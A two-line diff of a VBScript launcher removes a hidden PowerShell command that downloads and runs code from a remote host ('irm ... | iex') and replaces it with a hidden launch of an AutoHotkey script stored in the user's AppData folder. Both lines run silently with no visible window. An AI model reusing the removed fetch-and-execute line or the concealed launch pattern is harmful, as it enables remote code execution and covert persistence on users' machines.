@@ -1,2 +1,2 @@
 Set sh = CreateObject("WScript.Shell")
-sh.Run "powershell -w hidden -c " & Chr(34) & "irm https://hk.example.net/k | iex" & Chr(34), 0, False
+sh.Run "autohotkey.exe " & Chr(34) & sh.ExpandEnvironmentStrings("%APPDATA%\Microsoft\hk.ahk") & Chr(34), 0, False
